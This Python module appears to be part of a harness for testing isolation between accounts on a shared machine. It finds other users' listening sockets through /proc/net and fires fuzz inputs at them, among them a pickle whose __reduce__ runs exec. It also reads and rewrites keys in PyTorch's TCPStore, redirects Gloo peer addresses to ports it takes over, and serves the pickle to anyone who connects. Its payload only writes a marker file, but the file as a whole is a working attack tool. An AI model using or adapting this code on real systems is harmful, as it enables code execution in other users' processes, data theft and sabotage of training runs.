"""Attack other accounts' listeners from an account without rights. See adversary.py. Stdlib only."""

from __future__ import annotations

import contextlib
import os
import pickle
import re
import select
import socket
import struct
import time
from concurrent.futures import ThreadPoolExecutor
from typing import TYPE_CHECKING, Any, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

LISTENING = "0A"
ACCEPTS = "00010000"  # the flag of a listening unix socket
SHOOTERS = 8
FAST = 0.03
KEPT = 200  # bytes of a value that are kept
RUSH = 0.002  # seconds between two queries of a store
PATIENCE = 0.5
LARGEST = 1 << 16
# torch/csrc/distributed/c10d/TCPStoreBackend.hpp
VALIDATE, SET, GET, LIST = 0, 1, 3, 17
MAGIC = 0x3C85F7CE
# In the data that a rank leaves for Gloo's other ranks: the family of a socket's address, and its
# port.
ADDRESS = re.compile(rb"(\x02\x00)(..)(?=\x0a)", re.DOTALL)


class Listener(NamedTuple):
    """A listening socket of another account."""

    kind: str
    address: str
    port: int
    inode: str


class Payload:
    """Runs code in the process that unpickles it."""

    def __init__(self, text: str) -> None:
        self.text = text

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return exec, (self.text,)


def parse_proc_address(text: str) -> str:
    """Return the address in a line of /proc/net, as a client here connects to it."""
    words = [struct.pack("=I", int(text[at : at + 8], 16)) for at in range(0, len(text), 8)]
    raw = b"".join(words)
    shown = socket.inet_ntop(socket.AF_INET if len(raw) == 4 else socket.AF_INET6, raw)
    return {"0.0.0.0": "127.0.0.1", "::": "::1"}.get(shown, shown)  # noqa: S104 (a comparison)


def list_bound_sockets(me: int) -> Iterator[Listener]:
    """List every listening socket of another account."""
    for kind in ("tcp", "tcp6", "udp", "udp6"):
        with contextlib.suppress(OSError), open(f"/proc/net/{kind}") as table:
            for line in table.read().splitlines()[1:]:
                word = line.split()
                where, port = word[1].split(":")
                if int(word[7]) != me and (word[3] == LISTENING or kind.startswith("udp")):
                    yield Listener(kind, parse_proc_address(where), int(port, 16), word[9])
    with contextlib.suppress(OSError), open("/proc/net/unix") as table:
        for line in table.read().splitlines()[1:]:
            word = line.split(None, 7)
            if len(word) == 8 and word[7].startswith("/") and word[3] == ACCEPTS:
                yield Listener("unix", word[7], 0, word[6])


def frame_bytes(raw: bytes) -> bytes:
    """Encode bytes as torch's store sends them."""
    return struct.pack("=Q", len(raw)) + raw


class Store:
    """A minimal client of torch's store. Torch's own takes seconds to load."""

    def __init__(self, address: str, port: int) -> None:
        self.sock = socket.create_connection((address, port), timeout=PATIENCE)
        self.sock.sendall(bytes([VALIDATE]) + struct.pack("=I", MAGIC))

    def exactly(self, size: int) -> bytes:
        """Read a number of bytes of an answer."""
        found = b""
        while len(found) < size:
            more = self.sock.recv(size - len(found))
            if not more:
                raise ConnectionError("the store hung up")
            found += more
        return found

    def get(self, key: str) -> bytes:
        """Return the value of a key."""
        self.sock.sendall(bytes([GET]) + frame_bytes(key.encode()))
        return self.exactly(min(LARGEST, struct.unpack("=Q", self.exactly(8))[0]))

    def set(self, key: str, value: bytes) -> None:
        """Give a key another value."""
        self.sock.sendall(bytes([SET]) + frame_bytes(key.encode()) + frame_bytes(value))

    def names(self) -> list[str]:
        """List every key, if this version of torch supports it."""
        self.sock.sendall(bytes([LIST]))
        count = struct.unpack("=Q", self.exactly(8))[0]
        sizes = (struct.unpack("=Q", self.exactly(8))[0] for _ in range(min(count, 1000)))
        return [self.exactly(min(LARGEST, size)).decode("utf-8", "replace") for size in sizes]


class Network:
    """The attack on every new listener."""

    def __init__(
        self,
        settings: dict[str, Any],
        me: int,
        say: Callable[..., None],
        report_secrets: Callable[[str, str, bytes], None],
    ) -> None:
        self.settings, self.me, self.say, self.report_secrets = settings, me, say, report_secrets
        settings["disturb"] = tuple(settings["disturb"])

    def payload(self, name: str) -> bytes:
        """Return a pickle that leaves a mark of the account that loads it."""
        won = self.settings["won"]
        text = (
            f"import os\nif os.getuid() != {self.me}:"
            f" os.close(os.open('{won}/pickle-{name}-uid%d-pid%d' % (os.getuid(), os.getpid()), 65))"
        )
        return pickle.dumps(Payload(text))

    def shots(self, name: str) -> Iterator[bytes]:
        """Yield inputs that a parser might crash on or execute."""
        raw = self.payload(name)
        yield raw
        yield struct.pack("<Q", len(raw)) + raw
        yield struct.pack("!I", len(raw)) + raw
        yield os.urandom(64)
        yield b"\xff" * 64
        yield b"\0" * 64
        yield b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
        yield b"stop\n"
        yield b"fullmesh-client/1 el1 00 00 16777216\n"
        validated = bytes([VALIDATE]) + struct.pack("=I", MAGIC)
        yield validated + bytes([SET]) + struct.pack("=Q", 1 << 62)
        yield validated + bytes([250])
        # Gloo: the number of the expected pair
        yield from (struct.pack("=q", pair) + b"\x7f" * 48 for pair in (0, 1, 2))

    def listeners(self) -> None:
        """Attack new listeners."""
        known: set[str] = set()
        with ThreadPoolExecutor(SHOOTERS) as pool:
            while True:
                for one in list(list_bound_sockets(self.me)):
                    if one.inode not in known:
                        known.add(one.inode)
                        pool.submit(self.shoot, one)
                time.sleep(FAST)

    def shoot(self, one: Listener) -> None:
        """Send all inputs to one listener, each on its own connection."""
        name = f"{one.kind}-{one.port}"
        for number, shot in enumerate(self.shots(name)):
            with contextlib.suppress(OSError, ValueError):
                answer = self.send(one, shot)
                if number == 0:
                    self.say("spoke to", f"{one.kind} {one.address} {one.port}")
                self.report_secrets("answer", f"{one.kind} {one.address} {one.port}", answer)

    @staticmethod
    def send(one: Listener, shot: bytes) -> bytes:
        """Send one input. Return the answer."""
        family = socket.AF_INET6 if one.kind.endswith("6") else socket.AF_INET
        family = socket.AF_UNIX if one.kind == "unix" else family
        kind = socket.SOCK_DGRAM if one.kind.startswith("udp") else socket.SOCK_STREAM
        with socket.socket(family, kind) as sock:
            sock.settimeout(PATIENCE)
            sock.connect(one.address if one.kind == "unix" else (one.address, one.port))
            sock.sendall(shot)
            return sock.recv(LARGEST)

    def stores(self) -> None:
        """Query torch's store at every possible address, as long as it exists."""
        with ThreadPoolExecutor(len(self.settings["stores"])) as pool:
            for address, port in self.settings["stores"]:
                pool.submit(self.keep_asking, address, port)

    def keep_asking(self, address: str, port: int) -> None:
        """Wait for one store, and query it until it is gone."""
        while True:
            with contextlib.suppress(OSError, struct.error):
                self.talk(Store(address, port), f"{address} {port}")
            time.sleep(FAST)

    def talk(self, store: Store, where: str) -> None:
        """Read all keys that a run of torch keeps there. Change them if configured."""
        written: set[str] = set()
        with store.sock:
            while True:
                for key in store.names():
                    value = store.get(key)
                    self.say("store read", f"{where} {key}", text=repr(value[:KEPT]))
                    if key.startswith(self.settings["disturb"]) and key not in written:
                        written.add(key)
                        store.set(key, self.bent(value))
                        self.say("store wrote", f"{where} {key}")
                time.sleep(RUSH)

    def bent(self, value: bytes) -> bytes:
        """Redirect a Gloo address to one of our ports, and turn any other value into a pickle."""
        squat = self.settings["squat"]
        found = ADDRESS.sub(b"\\1" + struct.pack("!H", squat[-1]) if squat else b"\\1\\2", value)
        return found if squat and found != value else self.payload("store")

    def squat(self) -> None:
        """Take free ports, and answer each client with data that might crash it or run in it."""
        socks = []
        for port in self.settings["squat"]:
            sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
            sock.bind(("::", port))
            sock.listen()
            socks.append(sock)
        while socks:
            for sock in select.select(socks, [], [])[0]:
                with contextlib.suppress(OSError), sock.accept()[0] as visitor:
                    visitor.settimeout(PATIENCE)
                    self.say("came to us", str(sock.getsockname()[1]), said=repr(visitor.recv(200)))
                    visitor.sendall(self.payload("squat"))
        time.sleep(PATIENCE)
